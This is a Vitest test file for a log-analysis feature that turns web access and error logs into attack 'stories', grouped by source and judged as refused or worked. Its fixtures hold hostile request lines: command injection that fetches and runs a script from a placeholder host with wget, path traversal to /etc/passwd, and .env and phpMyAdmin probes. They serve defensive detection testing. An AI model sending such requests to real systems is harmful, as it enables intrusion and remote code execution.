import { describe, expect, it } from 'vitest'
import { NO_FILTER } from '../../src/engine/columns/filter.ts'
import { storyPage } from '../../src/jobs/stories.ts'
import { questionsOf } from './questions-of.ts'

const all = { from: 0, count: 10 }
const access = (source: string, target: string, status: number, at: number): string =>
  `${source} - - [21/Nov/2026:02:00:${String(at).padStart(2, '0')} +0000] "GET ${target} HTTP/1.1" ${status} 321 "-" "curl/8.0"\n`

describe('stories', () => {
  it('tell of stages in their order, the worst source first', async () => {
    const questions = await questionsOf(
      [
        access('203.0.113.7', '/phpMyAdmin/scripts/setup.php', 404, 1),
        access('203.0.113.7', '/pma/scripts/setup.php', 404, 2),
        access('198.51.100.4', '/cgi-bin/x?a=1;wget+http://192.0.2.66/a.sh;sh+a.sh', 404, 3),
        access('192.0.2.50', '/index.html', 200, 4),
      ].join(''),
    )
    const { total, rows } = storyPage(questions, NO_FILTER, all)
    expect(total).toBe(2)
    expect(rows[0]).toMatchObject({
      source: '198.51.100.4',
      attacks: 1,
      outcome: 'refused',
      first: Date.UTC(2026, 10, 21, 2, 0, 3),
    })
    expect(rows[0]?.stages.map(({ stage }) => stage)).toEqual(
      expect.arrayContaining(['inject', 'download']),
    )
    expect(rows[0]?.indicators).toContainEqual({ kind: 'url', value: 'http://192.0.2.66/a.sh' })
    expect(rows[0]?.evidence).toBeTypeOf('number')
    expect(rows[1]?.source).toBe('203.0.113.7')
  })
  it('say that it worked where the error log shows what ran', async () => {
    const questions = await questionsOf(
      access('198.51.100.4', '/cgi-bin/x.cgi?c=|cd+/tmp;wget+192.0.2.66/a;|', 200, 3) +
        access('198.51.100.9', '/cgi-bin/x.cgi?c=|id|', 404, 9),
      '[Sat Nov 21 02:00:04 2026] [error] [client 198.51.100.4] --02:00:04--  http://192.0.2.66/a\n' +
        "[Sat Nov 21 02:00:05 2026] [error] [client 198.51.100.4]            => `a'\n",
    )
    const { rows } = storyPage(questions, NO_FILTER, all)
    expect(rows[0]).toMatchObject({
      source: '198.51.100.4',
      outcome: 'worked',
      reason: 'ran-downloader',
    })
    expect(rows[1]?.outcome).not.toBe('worked')
  })
  it('join sources that did the same', async () => {
    const questions = await questionsOf(
      [1, 2, 3, 4, 5]
        .map((n) => access(`203.0.113.${n}`, '/?q=../../../../etc/passwd', 404, n))
        .join('') + access('198.51.100.4', '/.env', 404, 9),
    )
    const { total, rows } = storyPage(questions, NO_FILTER, all)
    expect(total).toBe(2)
    expect(rows[0]).toMatchObject({
      sources: 5,
      networks: 1,
      network: '203.0.113.0/24',
      attacks: 5,
      last: Date.UTC(2026, 10, 21, 2, 0, 5),
    })
    expect(rows[1]).toMatchObject({ sources: 1, source: '198.51.100.4' })
  })
  it('give parts of the list', async () => {
    const questions = await questionsOf(
      [1, 2, 3].map((n) => access(`203.0.113.${n}`, '/?q=../../../../etc/passwd', 404, n)).join(''),
    )
    const { total, rows } = storyPage(questions, NO_FILTER, { from: 1, count: 1 })
    expect(total).toBe(3)
    expect(rows).toHaveLength(1)
  })
})
